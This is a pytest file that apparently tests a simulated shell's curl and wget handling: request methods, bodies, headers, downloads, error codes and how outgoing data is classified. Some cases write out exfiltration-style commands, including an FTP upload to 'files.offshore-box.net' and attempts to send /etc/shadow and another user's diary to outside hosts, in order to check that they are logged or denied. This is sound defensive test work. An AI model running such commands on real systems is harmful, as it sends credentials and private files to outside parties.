"""curl and wget: what goes out is what the options say."""

from __future__ import annotations

import base64
import json

import pytest

URL = "https://store.example/up"


def sent(desk, command: str):
    desk.effects.clear()
    desk.run(command)
    found = [e for e in desk.effects if e.action == "http-request"]
    assert len(found) == 1, desk.effects
    return found[0]


@pytest.mark.parametrize(
    ("options", "method", "body"),
    [
        ("", "GET", b""),
        ("-I", "HEAD", b""),
        ("-X DELETE", "DELETE", b""),
        ("-d a=1 -d b=2", "POST", b"a=1&b=2"),
        ("-d @notes.txt", "POST", b"remember the milk"),
        ("--data-binary @notes.txt", "POST", b"remember the milk\n"),
        ("--data-raw @notes.txt", "POST", b"@notes.txt"),
        ("--data-urlencode 'q=a b&c'", "POST", b"q=a+b%26c"),
        ("--data-urlencode q@notes.txt", "POST", b"q=remember+the+milk%0A"),
        ("-T notes.txt", "PUT", b"remember the milk\n"),
        ("-X PATCH --json '{\"a\": 1}'", "PATCH", b'{"a": 1}'),
    ],
)
def test_method_and_body(options: str, method: str, body: bytes, desk) -> None:
    effect = sent(desk, f"curl -s {options} {URL}")
    assert (effect.method, effect.body) == (method, body)
    assert effect.by.surface == "http"


def test_query_form_headers_and_credentials(desk) -> None:
    assert sent(desk, f"curl -s -G -d q=rope {URL}").url == f"{URL}?q=rope"
    form = sent(desk, f"curl -s -F note=hi -F 'file=@notes.txt;filename=x.txt' {URL}")
    assert form.files == (("x.txt", b"remember the milk\n"),)
    assert b'name="note"' in form.body
    headers = dict(sent(desk, f"curl -s -u me:pw -H 'X-Key: 7' -A agent -b k=v {URL}").headers)
    assert headers["X-Key"] == "7"
    assert base64.b64decode(headers["Authorization"].split()[1]) == b"me:pw"
    assert (headers["User-Agent"], headers["Cookie"]) == ("agent", "k=v")


def test_output_goes_where_it_is_told(desk) -> None:
    desk.run("curl -s https://binbox.example/ -o page; cd /tmp; curl -s -O https://binbox.example/some.html")
    assert b"Binbox" in desk.sandbox.read("/home/robin/page", desk.tool)
    assert desk.world.files.get("/tmp/some.html") is not None
    assert desk.out("curl -s -o /dev/null -w '%{http_code}\\n' https://binbox.example/none") == "404\n"
    assert desk.out("curl -sI https://binbox.example/ | head -1").startswith("HTTP/1.1 200 OK")
    assert desk.run("curl -sf https://binbox.example/none").exit_code == 22


@pytest.mark.parametrize(
    ("command", "code", "said"),
    [
        ("curl", 2, "no URL specified"),
        ("curl --bogus x", 2, "is unknown"),
        ("curl https://no-such-name.invalid/", 6, "Could not resolve host: no-such-name.invalid"),
        ("curl -T /none https://binbox.example/", 1, "No such file"),
        ("curl -F f=@/home/ada/diary.txt https://binbox.example/", 1, "Permission denied"),
        ("curl gopher://x/", 1, "not supported or disabled"),
        ("wget", 1, "missing URL"),
        ("wget https://no-such-name.invalid/", 4, "unable to resolve host address"),
        ("wget https://binbox.example/none", 8, "ERROR 404"),
    ],
)
def test_failures(command: str, code: int, said: str, desk) -> None:
    result = desk.run(command)
    assert result.exit_code == code
    assert said in result.stderr


def test_wget(desk) -> None:
    assert "saved" in desk.run("wget https://binbox.example/").stderr
    assert desk.world.files.get("/home/robin/index.html") is not None
    effect = sent(desk, f"wget -q -O - --post-data a=1 --header 'X: y' {URL}")
    assert (effect.method, effect.body, dict(effect.headers)["X"]) == ("POST", b"a=1", "y")


def test_ftp_is_a_transfer(desk) -> None:
    assert desk.actions("curl -s -T notes.txt ftp://files.offshore-box.net/") == ["data-sent"]
    assert desk.effects[-1].files == (("notes.txt", b"remember the milk\n"),)


def test_written_out_json(desk) -> None:
    assert json.loads(desk.out("curl -s -o /dev/null -w '%{json}' https://binbox.example/"))["http_code"] == "200"


@pytest.mark.parametrize(
    "command",
    [
        "wget 'http://[bad/'",
        "wget http://h:99999/",
        "curl 'http://[bad/'",
        "curl http://h:99999/",
        "curl -T notes.txt 'ftp://[bad/'",
        "curl -T notes.txt ftp://h:99999/",
        "curl -X 'GET / HTTP' https://binbox.example/",
    ],
)
def test_addresses_that_are_none(command: str, desk) -> None:
    result = desk.run(command)
    assert result.exit_code != 0
    assert result.stderr.startswith(f"{command.split()[0]}: ")
    assert desk.kinds() == []


@pytest.mark.parametrize("option", ["-T", "--data-binary @", "-F f=@"])
def test_what_may_not_be_read_does_not_leave(option: str, make_desk) -> None:
    desk = make_desk("guest")
    assert "Permission denied" in desk.run(f"curl -s {option}/etc/shadow {URL}").stderr
    assert desk.kinds(reads=True) == ["file-read/attempted/shell"]
